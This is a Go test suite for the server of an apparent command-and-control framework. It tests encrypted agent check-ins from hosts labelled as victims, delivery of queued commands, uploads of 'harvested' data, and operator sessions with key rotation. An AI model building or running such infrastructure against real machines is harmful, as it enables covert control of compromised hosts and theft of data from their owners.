package main

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/require"

	"github.com/wraith-labs/wraith/pkg/config"
	"github.com/wraith-labs/wraith/pkg/envelope"
	"github.com/wraith-labs/wraith/pkg/wire"
)

const testClientIP = "203.0.113.9"

func newTestServer(t *testing.T) *Server {
	t.Helper()
	store := newTestStore(t)

	crypto, err := envelope.New(envelope.ModeCBC, 256)
	require.NoError(t, err)
	crypto.KeyIterations = 10 // keep PBKDF2 cheap in tests

	srv := &Server{
		cfg:         config.DefaultServer(),
		store:       store,
		crypto:      crypto,
		rateLimiter: NewRateLimiter(),
		logger:      zerolog.Nop(),
		startedAt:   time.Now(),
	}
	srv.protocols = map[byte]protocolHandler{
		'0': &protoV0{server: srv},
	}
	return srv
}

func runDispatch(t *testing.T, srv *Server, body string) []byte {
	t.Helper()
	var reply []byte
	err := srv.store.WithTx(func(tx *Store) error {
		reply = srv.dispatch(tx, []byte(body), testClientIP, srv.logger)
		return nil
	})
	require.NoError(t, err)
	return reply
}

// sealWraith builds a complete agent request body.
func sealWraith(t *testing.T, srv *Server, key string, payload map[string]any) string {
	t.Helper()
	raw, err := json.Marshal(payload)
	require.NoError(t, err)
	sealed, err := srv.crypto.Encrypt(raw, key)
	require.NoError(t, err)
	return wire.BuildHeader("W_", wire.ClassWraith, '0') + string(sealed)
}

// sealManager builds a complete two-layer manager request body.
func sealManager(t *testing.T, srv *Server, sessionID, sessionToken, echoedToken string, payload map[string]any) string {
	t.Helper()
	inner := map[string]any{"sessionToken": echoedToken}
	for k, v := range payload {
		inner[k] = v
	}
	innerRaw, err := json.Marshal(inner)
	require.NoError(t, err)
	innerSealed, err := srv.crypto.Encrypt(innerRaw, sessionToken)
	require.NoError(t, err)

	outerRaw, err := json.Marshal([]string{sessionID, string(innerSealed)})
	require.NoError(t, err)

	firstLayerKey, err := srv.store.Setting(settingFirstLayerKey)
	require.NoError(t, err)
	outerSealed, err := srv.crypto.Encrypt(outerRaw, firstLayerKey)
	require.NoError(t, err)

	return wire.BuildHeader("W_", wire.ClassManager, '0') + string(outerSealed)
}

// openSealed decodes a prefixed encrypted reply.
func openSealed(t *testing.T, srv *Server, reply []byte, key string) map[string]any {
	t.Helper()
	require.True(t, strings.HasPrefix(string(reply), "W_"), "reply should be sealed, got %q", reply)
	plain, err := srv.crypto.Decrypt(reply[len("W_"):], key)
	require.NoError(t, err)
	var decoded map[string]any
	require.NoError(t, json.Unmarshal(plain, &decoded))
	return decoded
}

// openPlain decodes a bare JSON error reply.
func openPlain(t *testing.T, reply []byte) map[string]any {
	t.Helper()
	var decoded map[string]any
	require.NoError(t, json.Unmarshal(reply, &decoded), "expected bare JSON, got %q", reply)
	return decoded
}

func handshakePayload() map[string]any {
	return map[string]any{
		"reqType": "handshake",
		"hostInfo": map[string]any{
			"arch":       "amd64",
			"hostname":   "victim-01",
			"osType":     "linux",
			"osVersion":  "6.1.0",
			"reportedIP": "192.0.2.10",
		},
		"wraithInfo": map[string]any{
			"version":     "4.0.0",
			"startTime":   time.Now().Unix(),
			"plugins":     []string{},
			"env":         map[string]string{"LANG": "C"},
			"pid":         4242,
			"ppid":        1,
			"runningUser": "daemon",
		},
	}
}

func registerTestWraith(t *testing.T, srv *Server, key string) string {
	t.Helper()
	reply := runDispatch(t, srv, sealWraith(t, srv, key, handshakePayload()))
	decoded := openSealed(t, srv, reply, key)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	assignedID, _ := decoded["assignedID"].(string)
	require.NotEmpty(t, assignedID)
	return assignedID
}

func TestDispatchRejectsBadPrefix(t *testing.T) {
	srv := newTestServer(t)
	reply := runDispatch(t, srv, "X_30whatever")
	decoded := openPlain(t, reply)
	require.Equal(t, wire.StatusError, decoded["status"])
	require.Equal(t, msgMalformed, decoded["message"])
}

func TestDispatchRejectsZeroClassDigit(t *testing.T) {
	srv := newTestServer(t)
	// '0' is explicitly outside both client classes; no decryption may be
	// attempted for it.
	reply := runDispatch(t, srv, "W_00"+strings.Repeat("A", 128))
	decoded := openPlain(t, reply)
	require.Equal(t, msgMalformed, decoded["message"])
}

func TestDispatchRejectsUnknownVersion(t *testing.T) {
	srv := newTestServer(t)
	reply := runDispatch(t, srv, "W_19"+strings.Repeat("A", 128))
	decoded := openPlain(t, reply)
	require.Equal(t, msgUnsupportedProtocol, decoded["message"])
}

func TestDispatchRejectsBlockedIP(t *testing.T) {
	srv := newTestServer(t)
	require.NoError(t, srv.store.SetSetting(settingIPBlacklist, `["`+testClientIP+`"]`))

	body := sealWraith(t, srv, "QWERTYUIOPASDFGHJKLZXCVBNM", handshakePayload())
	reply := runDispatch(t, srv, body)
	decoded := openPlain(t, reply)
	require.Equal(t, msgBlocked, decoded["message"])
}

func TestWraithHandshakeWithBootstrapKey(t *testing.T) {
	srv := newTestServer(t)
	initialKey, err := srv.store.Setting(settingInitialCryptKey)
	require.NoError(t, err)

	reply := runDispatch(t, srv, sealWraith(t, srv, initialKey, handshakePayload()))
	decoded := openSealed(t, srv, reply, initialKey)

	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.NotEmpty(t, decoded["assignedID"])
	require.NotEmpty(t, decoded["APIFingerprint"])

	switchKey, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)
	require.Equal(t, switchKey, decoded["switchKey"])

	// The registration is visible with the requester address stamped in.
	w, err := srv.store.GetWraith(decoded["assignedID"].(string))
	require.NoError(t, err)
	require.Contains(t, w.HostProperties, testClientIP)
	require.NotEmpty(t, w.Fingerprint)
}

func TestWraithHandshakeAfterKeyRotation(t *testing.T) {
	srv := newTestServer(t)
	require.NoError(t, srv.store.SetSetting(settingSwitchCryptKey, "rotated-switch-key"))

	// Agents already holding the rotated key register with it.
	registerTestWraith(t, srv, "rotated-switch-key")

	// Fresh agents still bootstrap with the immutable initial key, and the
	// reply comes back under that same key.
	initialKey, err := srv.store.Setting(settingInitialCryptKey)
	require.NoError(t, err)
	reply := runDispatch(t, srv, sealWraith(t, srv, initialKey, handshakePayload()))
	decoded := openSealed(t, srv, reply, initialKey)
	require.Equal(t, "rotated-switch-key", decoded["switchKey"])
}

func TestWraithRepeatHandshakeSameFingerprint(t *testing.T) {
	srv := newTestServer(t)
	initialKey, err := srv.store.Setting(settingInitialCryptKey)
	require.NoError(t, err)

	first := registerTestWraith(t, srv, initialKey)
	second := registerTestWraith(t, srv, initialKey)
	require.NotEqual(t, first, second, "each handshake mints a fresh assigned ID")

	a, err := srv.store.GetWraith(first)
	require.NoError(t, err)
	b, err := srv.store.GetWraith(second)
	require.NoError(t, err)
	require.Equal(t, a.Fingerprint, b.Fingerprint, "same host attributes must map to the same fingerprint")
}

func TestWraithHandshakeMissingFields(t *testing.T) {
	srv := newTestServer(t)
	initialKey, err := srv.store.Setting(settingInitialCryptKey)
	require.NoError(t, err)

	payload := handshakePayload()
	delete(payload["hostInfo"].(map[string]any), "osType")
	reply := runDispatch(t, srv, sealWraith(t, srv, initialKey, payload))
	decoded := openSealed(t, srv, reply, initialKey)
	require.Equal(t, wire.StatusError, decoded["status"])
	require.Equal(t, msgMissingHeaders, decoded["message"])
}

func TestWraithUnknownRequestType(t *testing.T) {
	srv := newTestServer(t)
	initialKey, err := srv.store.Setting(settingInitialCryptKey)
	require.NoError(t, err)

	reply := runDispatch(t, srv, sealWraith(t, srv, initialKey, map[string]any{"reqType": "selfDestruct"}))
	decoded := openSealed(t, srv, reply, initialKey)
	require.Equal(t, msgNotImplemented, decoded["message"])
}

func TestWraithRandomGarbageEnvelope(t *testing.T) {
	srv := newTestServer(t)
	reply := runDispatch(t, srv, "W_30"+strings.Repeat("A", 256))
	decoded := openPlain(t, reply)
	require.Equal(t, msgMalformed, decoded["message"])
}

func TestWraithHeartbeatCommandRoundTrip(t *testing.T) {
	srv := newTestServer(t)
	switchKey, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)
	assignedID := registerTestWraith(t, srv, switchKey)

	commandID, err := srv.store.EnqueueCommand("ping", nil, []string{assignedID}, time.Now())
	require.NoError(t, err)

	// First heartbeat delivers the pending command.
	reply := runDispatch(t, srv, sealWraith(t, srv, switchKey, map[string]any{
		"reqType":    "heartbeat",
		"assignedID": assignedID,
	}))
	decoded := openSealed(t, srv, reply, switchKey)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	commands := decoded["commands"].([]any)
	require.Len(t, commands, 1)
	cmd := commands[0].(map[string]any)
	require.Equal(t, commandID, cmd["commandID"])
	require.Equal(t, "ping", cmd["name"])

	// Second heartbeat piggybacks the result; the single-target command is
	// then complete and removed.
	reply = runDispatch(t, srv, sealWraith(t, srv, switchKey, map[string]any{
		"reqType":    "heartbeat",
		"assignedID": assignedID,
		"results": []map[string]any{
			{"commandID": commandID, "result": "pong"},
		},
	}))
	decoded = openSealed(t, srv, reply, switchKey)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.Empty(t, decoded["commands"])

	_, err = srv.store.GetCommand(commandID)
	require.ErrorIs(t, err, errCommandUnknown)
}

func TestWraithHeartbeatUnknownAgent(t *testing.T) {
	srv := newTestServer(t)
	switchKey, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)

	reply := runDispatch(t, srv, sealWraith(t, srv, switchKey, map[string]any{
		"reqType":    "heartbeat",
		"assignedID": "never-registered",
	}))
	decoded := openSealed(t, srv, reply, switchKey)
	require.Equal(t, msgUnknownWraith, decoded["message"])
}

func TestWraithUpload(t *testing.T) {
	srv := newTestServer(t)
	switchKey, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)
	assignedID := registerTestWraith(t, srv, switchKey)

	commandID, err := srv.store.EnqueueCommand("harvest", nil, []string{assignedID, "other"}, time.Now())
	require.NoError(t, err)

	reply := runDispatch(t, srv, sealWraith(t, srv, switchKey, map[string]any{
		"reqType":    "upload",
		"assignedID": assignedID,
		"commandID":  commandID,
		"data":       "collected bytes",
	}))
	decoded := openSealed(t, srv, reply, switchKey)
	require.Equal(t, wire.StatusSuccess, decoded["status"])

	cmd, err := srv.store.GetCommand(commandID)
	require.NoError(t, err)
	_, responses, err := cmd.decode()
	require.NoError(t, err)
	require.Equal(t, "collected bytes", responses[assignedID])
}

func newTestSession(t *testing.T, srv *Server, username string) *Session {
	t.Helper()
	sess, err := srv.store.CreateSession(username, testClientIP, time.Now())
	require.NoError(t, err)
	return sess
}

func TestManagerFetchInfo(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "fetchInfo"})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)

	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.NotEmpty(t, decoded["APIFingerprint"])
	data := decoded["data"].(map[string]any)
	require.Equal(t, APIVersion, data["APIVersion"])
	require.Equal(t, "SuperAdmin", data["sessionUsername"])
	require.Contains(t, data, "settings")
	require.Contains(t, data, "users")
}

func TestManagerUnknownSession(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	body := sealManager(t, srv, "not-a-session", sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "fetchInfo"})
	decoded := openPlain(t, runDispatch(t, srv, body))
	require.Equal(t, msgInvalidSession, decoded["message"])
}

func TestManagerTokenMismatch(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	// Correct inner encryption key, wrong echoed token.
	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, "forged-token",
		map[string]any{"reqType": "fetchInfo"})
	decoded := openPlain(t, runDispatch(t, srv, body))
	require.Equal(t, msgInvalidSession, decoded["message"])
}

func TestManagerWrongInnerKey(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	body := sealManager(t, srv, sess.SessionID, "wrong-inner-key", sess.SessionToken,
		map[string]any{"reqType": "fetchInfo"})
	decoded := openPlain(t, runDispatch(t, srv, body))
	require.Equal(t, msgInvalidSession, decoded["message"])
}

func TestManagerCommandLifecycle(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")
	switchKey, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)
	assignedID := registerTestWraith(t, srv, switchKey)

	// Issue.
	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType": "issueCommand",
		"name":    "ping",
		"params":  []string{},
		"targets": []string{assignedID},
	})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	commandID := decoded["commandID"].(string)
	require.NotEmpty(t, commandID)

	// Results while still pending.
	body = sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType":   "fetchResults",
		"commandID": commandID,
	})
	decoded = openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.Empty(t, decoded["responses"])

	// Cancel.
	body = sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType":   "cancelCommand",
		"commandID": commandID,
	})
	decoded = openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	_, err = srv.store.GetCommand(commandID)
	require.ErrorIs(t, err, errCommandUnknown)
}

func TestManagerPrivilegeEnforcement(t *testing.T) {
	srv := newTestServer(t)
	require.NoError(t, srv.store.AddUser("viewer", "pw", PrivilegeUser))
	sess := newTestSession(t, srv, "viewer")

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType": "updateSetting",
		"key":     settingAPIPrefix,
		"value":   "Z_",
	})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusError, decoded["status"])
	require.Equal(t, msgForbidden, decoded["message"])

	prefix, err := srv.store.Setting(settingAPIPrefix)
	require.NoError(t, err)
	require.Equal(t, "W_", prefix)
}

func TestManagerUserManagementRequiresSuperAdmin(t *testing.T) {
	srv := newTestServer(t)
	require.NoError(t, srv.store.AddUser("admin", "pw", PrivilegeAdmin))
	sess := newTestSession(t, srv, "admin")

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType":    "manageUsers",
		"action":     "add",
		"username":   "sneaky",
		"password":   "pw",
		"privileges": PrivilegeSuperAdmin,
	})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, msgForbidden, decoded["message"])
}

func TestManagerManageUsers(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType":    "manageUsers",
		"action":     "add",
		"username":   "operator",
		"password":   "pw",
		"privileges": PrivilegeAdmin,
	})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])

	u, err := srv.store.GetUser("operator")
	require.NoError(t, err)
	require.Equal(t, PrivilegeAdmin, u.Privileges)

	// A session cannot remove its own account.
	body = sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken, map[string]any{
		"reqType":  "manageUsers",
		"action":   "remove",
		"username": "SuperAdmin",
	})
	decoded = openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusError, decoded["status"])
}

func TestManagerRotateSwitchKey(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")
	before, err := srv.store.Setting(settingSwitchCryptKey)
	require.NoError(t, err)

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "rotateSwitchKey"})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.NotEqual(t, before, decoded["switchKey"])
}

func TestManagerRotateFirstLayerKeyNeedsForce(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	// The requesting session itself counts as an active client.
	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "rotateFirstLayerKey"})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, msgRotationBusy, decoded["message"])

	before, err := srv.store.Setting(settingFirstLayerKey)
	require.NoError(t, err)

	// Forced rotation succeeds and the reply is still readable: it is sealed
	// with the session token, not the first-layer key.
	body = sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "rotateFirstLayerKey", "force": true})
	decoded = openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	require.NotEqual(t, before, decoded["firstLayerKey"])
}

func TestManagerLogout(t *testing.T) {
	srv := newTestServer(t)
	sess := newTestSession(t, srv, "SuperAdmin")

	body := sealManager(t, srv, sess.SessionID, sess.SessionToken, sess.SessionToken,
		map[string]any{"reqType": "logout"})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), sess.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])

	_, err := srv.store.GetSession(sess.SessionID)
	require.ErrorIs(t, err, errSessionUnknown)
}

func runAutoconf(t *testing.T, srv *Server, body string) []byte {
	t.Helper()
	var reply []byte
	err := srv.store.WithTx(func(tx *Store) error {
		reply = srv.autoconf(tx, body, testClientIP, srv.logger)
		return nil
	})
	require.NoError(t, err)
	return reply
}

func autoconfBody(t *testing.T, srv *Server, username, password string) string {
	t.Helper()
	sealed, err := srv.crypto.Encrypt([]byte(password), username+credentialSuffix)
	require.NoError(t, err)
	return username + "|" + string(sealed)
}

func TestAutoconfIssuesSession(t *testing.T) {
	srv := newTestServer(t)

	reply := runAutoconf(t, srv, autoconfBody(t, srv, "SuperAdmin", "SuperAdminPass"))

	plain, err := srv.crypto.Decrypt(reply, "SuperAdminPass")
	require.NoError(t, err, "reply must be sealed with the proven password")

	var decoded struct {
		Status string `json:"status"`
		Config struct {
			SessionID               string `json:"sessionID"`
			SessionToken            string `json:"sessionToken"`
			UpdateInterval          int    `json:"updateInterval"`
			APIPrefix               string `json:"APIPrefix"`
			FirstLayerEncryptionKey string `json:"firstLayerEncryptionKey"`
			APIVersion              string `json:"APIVersion"`
		} `json:"config"`
	}
	require.NoError(t, json.Unmarshal(plain, &decoded))
	require.Equal(t, wire.StatusSuccess, decoded.Status)
	require.Equal(t, "W_", decoded.Config.APIPrefix)
	require.Equal(t, APIVersion, decoded.Config.APIVersion)
	require.Equal(t, 4, decoded.Config.UpdateInterval, "update interval is a third of the 12s expiry")

	sess, err := srv.store.GetSession(decoded.Config.SessionID)
	require.NoError(t, err)
	require.Equal(t, decoded.Config.SessionToken, sess.SessionToken)
	require.Equal(t, "SuperAdmin", sess.Username)

	firstLayerKey, err := srv.store.Setting(settingFirstLayerKey)
	require.NoError(t, err)
	require.Equal(t, firstLayerKey, decoded.Config.FirstLayerEncryptionKey)
}

func TestCredentialExchangeThenFetchInfo(t *testing.T) {
	srv := newTestServer(t)

	// Full manager bootstrap: exchange credentials, then drive the protocol
	// with nothing but the handed-out config.
	reply := runAutoconf(t, srv, autoconfBody(t, srv, "SuperAdmin", "SuperAdminPass"))
	plain, err := srv.crypto.Decrypt(reply, "SuperAdminPass")
	require.NoError(t, err)
	var handout struct {
		Config struct {
			SessionID    string `json:"sessionID"`
			SessionToken string `json:"sessionToken"`
		} `json:"config"`
	}
	require.NoError(t, json.Unmarshal(plain, &handout))

	body := sealManager(t, srv, handout.Config.SessionID, handout.Config.SessionToken,
		handout.Config.SessionToken, map[string]any{"reqType": "fetchInfo"})
	decoded := openSealed(t, srv, runDispatch(t, srv, body), handout.Config.SessionToken)
	require.Equal(t, wire.StatusSuccess, decoded["status"])
	data := decoded["data"].(map[string]any)
	require.Equal(t, "SuperAdmin", data["sessionUsername"])
}

func TestAutoconfRejectsBadCredentials(t *testing.T) {
	srv := newTestServer(t)

	reply := runAutoconf(t, srv, autoconfBody(t, srv, "SuperAdmin", "not the password"))
	decoded := openPlain(t, reply)
	require.Equal(t, msgIncorrectCreds, decoded["message"])

	reply = runAutoconf(t, srv, autoconfBody(t, srv, "nobody", "pw"))
	decoded = openPlain(t, reply)
	require.Equal(t, msgIncorrectCreds, decoded["message"])
}

func TestAutoconfRejectsMalformedBody(t *testing.T) {
	srv := newTestServer(t)
	for _, body := range []string{"", "no separator", "a|b|c", "SuperAdmin|not-an-envelope"} {
		decoded := openPlain(t, runAutoconf(t, srv, body))
		require.Equal(t, msgMalformed, decoded["message"], "body %q", body)
	}
}

func TestAutoconfLockout(t *testing.T) {
	srv := newTestServer(t)

	for i := 0; i < 3; i++ {
		decoded := openPlain(t, runAutoconf(t, srv, autoconfBody(t, srv, "SuperAdmin", "wrong")))
		require.Equal(t, msgIncorrectCreds, decoded["message"])
	}

	// Limit reached: correct credentials are refused while locked.
	decoded := openPlain(t, runAutoconf(t, srv, autoconfBody(t, srv, "SuperAdmin", "SuperAdminPass")))
	require.Equal(t, msgAccountLocked, decoded["message"])
}
